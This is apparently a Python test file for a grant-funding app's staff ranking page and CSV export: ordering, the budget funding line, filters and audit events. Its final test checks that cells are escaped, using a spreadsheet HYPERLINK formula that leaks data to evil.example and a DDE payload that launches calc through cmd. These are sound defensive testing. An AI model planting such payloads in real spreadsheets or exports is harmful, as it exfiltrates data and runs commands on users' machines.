"""The ranking page and its spreadsheet: order by final score, the funding line (budget and lowest fundable score),
filters that hide rows without moving ranks or the line, the CSV's content, formula escaping and audit."""

from __future__ import annotations

import csv
import html
import io
import re
from typing import Any

from fundapp.accounts.states import StaffRole
from fundapp.assessment import services
from fundapp.assessment.fields import moderated_score_field, moderation_reason_field
from fundapp.core.clock import to_london, utcnow
from fundapp.extensions import db
from fundapp.programmes.models import Tier
from tests.factories import ApplicationFactory, ThemeFactory, TierFactory, staff_user
from tests.helpers import IsolatedClient, field_error, page_title, post_form, sign_in_as
from tests.integration.assessment.conftest import AssessmentSetup, make_assessment_round
from tests.integration.assessment.moderation_setup import AGREE, DISAGREE, add_form_questions, assess, events

SOUTHWARK, HACKNEY = "E09000028", "E09000012"


def _call(amounts_and_scores: list[tuple[int, Any]], **settings: Any) -> AssessmentSetup:
    """A call whose applications ask for the given pounds and are scored with the given pair of scorecards
    (None: not scored yet), with a themes and a boroughs question on its form."""
    setup = make_assessment_round(applications=len(amounts_and_scores), assessors=2, **settings)
    add_form_questions(setup.round)
    for application, (pounds, scorecards) in zip(setup.applications, amounts_and_scores, strict=True):
        application.amount_requested_pence = pounds * 100
        if scorecards is not None:
            assess(setup, application, scorecards)
    db.session.flush()
    return setup


def _rows(response: Any) -> list[str]:
    """The references in the ranking table, in order, with "LINE" where the funding line is."""
    page = response.get_data(as_text=True)
    body = page[page.index('<tbody class="govuk-table__body">') :]
    tokens = re.finditer(r'id="funding-line"|/moderation">([^<]+)</a>', body)
    return ["LINE" if m.group(1) is None else m.group(1) for m in tokens]


def _text(response: Any) -> str:
    return html.unescape(" ".join(re.sub(r"<[^>]+>", " ", response.get_data(as_text=True)).split()))


def _ranking(client: IsolatedClient, setup: AssessmentSetup, query: str = "") -> Any:
    response = client.get(f"/staff/calls/{setup.round.id}/ranking{query}")
    assert response.status_code == 200
    return response


# Scorecards: AGREE [4, 4, 2] twice → 78.3%; DISAGREE [5, 4, 3] and [2, 4, 3] → 93.5% and 60.9%, mean 77.2%
# (flagged); HIGH → 100% and 93.5%, mean 96.7%; LOW → 39.1%. Neither HIGH nor LOW is flagged.
HIGH = ([5, 5, 3], [5, 4, 3])
LOW = ([2, 2, 1], [2, 2, 1])


def test_applications_are_ranked_by_final_score_with_ties_by_reference_and_unscored_last(
    client: IsolatedClient,
) -> None:
    setup = _call([(10_000, AGREE), (10_000, None), (10_000, HIGH), (10_000, AGREE), (10_000, DISAGREE)])
    a, unscored, high, tie, disagree = setup.applications
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup)
    assert page_title(response).startswith(f"Ranking: {setup.round.name}")
    order = [r for r in _rows(response) if r != "LINE"]
    assert order == [high.reference, a.reference, tie.reference, disagree.reference, unscored.reference]
    text = _text(response)
    assert "96.7%" in text and "78.3%" in text and "77.2%" in text and "Not scored" in text
    assert "In assessment" in text and "Assessed" in text


def test_the_funding_line_falls_where_the_running_total_would_pass_the_budget(client: IsolatedClient) -> None:
    # Budget £50,000 (make_assessment_round): £20,000 + £25,000 = £45,000 fits; another £10,000 would not.
    setup = _call([(20_000, HIGH), (25_000, AGREE), (10_000, DISAGREE), (1_000, AGREE)])
    first, second, third, fourth = setup.applications
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup)
    # Ties by reference: the two AGREE ones are 78.3%; second comes before fourth.
    assert _rows(response) == [first.reference, second.reference, fourth.reference, "LINE", third.reference]
    text = _text(response)
    assert "Funding line: £46,000 of £50,000 budget allocated" in text
    assert "Requested by applications above the funding line £46,000 (3 applications)" in text
    assert "Remaining £4,000" in text
    assert text.count("Above the line") == 3 and text.count("Below the line") == 1
    # Running totals go on below the line.
    assert "£56,000" in text


def test_a_budget_met_exactly_keeps_the_last_application_above_the_line(client: IsolatedClient) -> None:
    setup = _call([(30_000, HIGH), (20_000, AGREE)])
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup)
    assert _rows(response) == [setup.applications[0].reference, setup.applications[1].reference, "LINE"]
    assert "Funding line: £50,000 of £50,000 budget allocated" in _text(response)
    assert "Remaining £0" in _text(response)


def test_an_application_below_the_lowest_fundable_score_is_below_the_line_even_with_budget_left(
    client: IsolatedClient,
) -> None:
    setup = _call([(10_000, HIGH), (5_000, LOW)], min_fundable_percent=50)
    high, low = setup.applications
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup)
    assert _rows(response) == [high.reference, "LINE", low.reference]
    assert "Funding line: £10,000 of £50,000 budget allocated" in _text(response)


def test_the_ranking_uses_the_moderated_score(client: IsolatedClient) -> None:
    setup = _call([(10_000, AGREE), (10_000, DISAGREE)])
    agree, disagree = setup.applications
    services.start_moderation(actor=setup.manager, round_=setup.round)
    need = setup.criteria[0]
    sign_in_as(client, setup.manager)
    post_form(
        client,
        f"/staff/applications/{disagree.id}/moderation",
        {moderated_score_field(need.id): "5", moderation_reason_field(need.id): "Strong local evidence"},
    )
    response = _ranking(client, setup)
    # (5×50 + 4×30 + 3×20) ÷ 460 = 93.5%, now above the 78.3% of the other.
    assert [r for r in _rows(response) if r != "LINE"] == [disagree.reference, agree.reference]
    text = _text(response)
    assert "93.5%" in text and "Moderated after flag" in text and "Moderated" in text


def _filtered_call() -> tuple[AssessmentSetup, Any]:
    """Four applications in two themes, two boroughs and two tiers; the third is flagged."""
    setup = _call([(20_000, HIGH), (12_000, AGREE), (15_000, DISAGREE), (9_000, LOW)], min_fundable_percent=10)
    TierFactory(round=setup.round, name="Tier 0", min_pence=500_000, max_pence=999_999)
    awareness = ThemeFactory(round=setup.round, name="Awareness raising")
    resilience = ThemeFactory(round=setup.round, name="Building resilience")
    for application, theme, borough in zip(
        setup.applications,
        [awareness, resilience, resilience, awareness],
        [SOUTHWARK, HACKNEY, SOUTHWARK, HACKNEY],
        strict=True,
    ):
        answers = {a.question_key: a for a in application.answers}
        answers["themes"].raw = answers["themes"].value = [str(theme.id)]
        answers["boroughs"].raw = answers["boroughs"].value = [borough]
    db.session.flush()
    db.session.expire_all()
    return setup, {"awareness": awareness, "resilience": resilience}


def test_filters_hide_rows_but_keep_ranks_running_totals_and_the_line(client: IsolatedClient) -> None:
    setup, themes = _filtered_call()
    first, second, third, fourth = setup.applications
    sign_in_as(client, setup.manager)
    whole = _ranking(client, setup)
    # 96.7% £20k, 78.3% £12k (£32k), 77.2% £15k (£47k), 39.1% £9k (£56k: over the £50k budget).
    assert _rows(whole) == [first.reference, second.reference, third.reference, "LINE", fourth.reference]

    response = _ranking(client, setup, "?borough=" + HACKNEY)
    assert _rows(response) == [second.reference, "LINE", fourth.reference]
    text = _text(response)
    assert "Showing 2 of 4 applications." in text
    assert "Funding line: £47,000 of £50,000 budget allocated" in text
    assert re.search(rf"2 {second.reference} .*£12,000 £32,000", text)
    assert re.search(rf"4 {fourth.reference} .*£9,000 £56,000", text)
    assert "Hackney" in text

    by_theme = _ranking(client, setup, "?theme=Awareness+raising&flag=")
    assert _rows(by_theme) == [first.reference, "LINE", fourth.reference]
    flagged = _ranking(client, setup, "?flag=flagged")
    assert _rows(flagged) == [third.reference, "LINE"]
    assert "Flagged" in _text(flagged)
    not_flagged = _ranking(client, setup, "?flag=not_flagged")
    assert third.reference not in _rows(not_flagged)


def test_the_tier_filter_uses_the_tier_whose_range_holds_the_amount(client: IsolatedClient) -> None:
    setup, _themes = _filtered_call()
    tier_0 = db.session.query(Tier).filter_by(round_id=setup.round.id, name="Tier 0").one()
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup, f"?tier={tier_0.id}")
    assert _rows(response) == ["LINE", setup.applications[3].reference]
    assert "Tier 0" in _text(response)


def test_a_filter_value_not_in_its_list_is_reported_and_ignored(client: IsolatedClient) -> None:
    setup, _themes = _filtered_call()
    sign_in_as(client, setup.manager)
    response = _ranking(client, setup, "?borough=nowhere")
    assert field_error(response, "borough") == "Choose a borough from the list"
    assert page_title(response).startswith("Error: ")
    assert len([r for r in _rows(response) if r != "LINE"]) == 4


# --- the spreadsheet ---------------------------------------------------------------------------------------


def _csv(response: Any) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_spreadsheet_has_the_rows_of_the_page_and_each_assessors_score(client: IsolatedClient) -> None:
    setup, _themes = _filtered_call()
    first, second, third, fourth = setup.applications
    finance = staff_user(StaffRole.FINANCE_OFFICER, fund_id=setup.round.fund_id)
    sign_in_as(client, finance)
    response = client.get(f"/staff/calls/{setup.round.id}/ranking.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    today = to_london(utcnow()).date().isoformat()
    name = f"{setup.round.code}-ranking-{today}.csv"
    assert response.headers["Content-Disposition"] == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
    header, *rows = _csv(response)
    assert header == [
        "Rank",
        "Reference",
        "Project title",
        "Organisation",
        "Tier",
        "Themes",
        "Boroughs",
        "Requested (£)",
        "Running total (£)",
        "Score (%)",
        "Status",
        "Flag",
        "Funding line",
        "Scorecards",
        "Assessor 1 score (%)",
        "Assessor 2 score (%)",
    ]
    assert [r[1] for r in rows] == [first.reference, second.reference, third.reference, fourth.reference]
    assert rows[0] == [
        "1",
        first.reference,
        first.project_title,
        first.organisation.name,
        "Tier 1",
        "Awareness raising",
        "Southwark",
        "20000.00",
        "20000.00",
        "96.7",
        "Assessed",
        "",
        "Above the line",
        "2",
        "100.0",
        "93.5",
    ]
    assert rows[2][11] == "Flagged" and rows[3][12] == "Below the line" and rows[3][8] == "56000.00"
    [event] = events("ranking.exported")
    assert (event.actor_id, event.subject_type, event.subject_id) == (finance.id, "Round", setup.round.id)
    assert event.data == {"filters": {}, "rows": 4}


def test_the_spreadsheet_keeps_the_filters_of_the_page(client: IsolatedClient) -> None:
    setup, _themes = _filtered_call()
    sign_in_as(client, setup.manager)
    page = _ranking(client, setup, f"?borough={HACKNEY}").get_data(as_text=True)
    link = re.search(r'href="([^"]*ranking\.csv[^"]*)"', page)
    assert link is not None and f"borough={HACKNEY}" in link.group(1)
    _header, *rows = _csv(client.get(link.group(1).replace("&amp;", "&")))
    assert [(r[0], r[1]) for r in rows] == [
        ("2", setup.applications[1].reference),
        ("4", setup.applications[3].reference),
    ]
    assert events("ranking.exported")[0].data == {"filters": {"borough": HACKNEY}, "rows": 2}


def test_text_that_would_start_a_formula_is_escaped_in_the_spreadsheet(client: IsolatedClient) -> None:
    setup = _call([(10_000, AGREE)])
    application = setup.applications[0]
    application.project_title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    application.organisation.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    sneaky = ApplicationFactory(round=setup.round, eligible=True, project_title="+1+2", amount_requested_pence=100)
    sneaky.organisation.name = "-2+3"
    db.session.flush()
    sign_in_as(client, setup.manager)
    _header, *rows = _csv(client.get(f"/staff/calls/{setup.round.id}/ranking.csv"))
    by_reference = {r[1]: r for r in rows}
    mine = by_reference[application.reference]
    assert mine[2] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert mine[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_reference[sneaky.reference][2:4] == ["'+1+2", "'-2+3"]
    # The page shows the title as typed (escaped as HTML, not as a spreadsheet cell).
    assert "=HYPERLINK(&#34;https://evil.example/?leak=&#34;&amp;A1,&#34;Click&#34;)" in _ranking(
        client, setup
    ).get_data(as_text=True)
